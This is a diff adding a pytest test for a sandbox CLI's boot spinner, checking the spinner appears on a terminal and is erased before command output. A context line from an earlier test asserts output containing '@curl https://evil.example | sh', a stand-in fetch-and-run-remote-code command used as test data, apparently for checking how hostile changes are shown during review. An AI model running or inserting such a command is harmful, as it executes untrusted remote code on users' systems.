@@ -276,3 +276,26 @@ def test_review_colour(sbx_bin):
         assert b"+\t@curl https://evil.example | sh" in out, out
     finally:
         h.close()
+
+
+# --- a sandbox booting ------------------------------------------------------------
+
+def test_boot_spinner_on_a_terminal_only(sbx_bin):
+    """sbx run waits for the VM to boot: a spinner with the elapsed time on a terminal,
+    erased before the command's own output; nothing extra when stderr is a pipe."""
+    h = new_home("pgb")
+    try:
+        ws = h.workspace("bws")
+        rc, out = _on_pty(h, "run", "--name", "pgb", "shell", ws, "--", "echo", "hello-from-vm", timeout=300)
+        assert rc == 0, out
+        before, _, after = out.partition(b"hello-from-vm")
+        assert b"hello-from-vm" in out and re.search(rb"\rstarting pgb [|/\\-] \d+:\d\d", before), out
+        # the spinner's line is blanked before the command writes
+        assert re.search(rb"\r +\r", before), out
+        assert ESC not in out, out
+        h.ok("stop", "pgb", timeout=120)
+        r = h.sbx("run", "--name", "pgb", "shell", ws, "--", "echo", "hello-again", timeout=300)
+        assert r.rc == 0 and r.out == "hello-again\n", r
+        assert "starting" not in r.err and "\r" not in r.err, r
+    finally:
+        h.close()
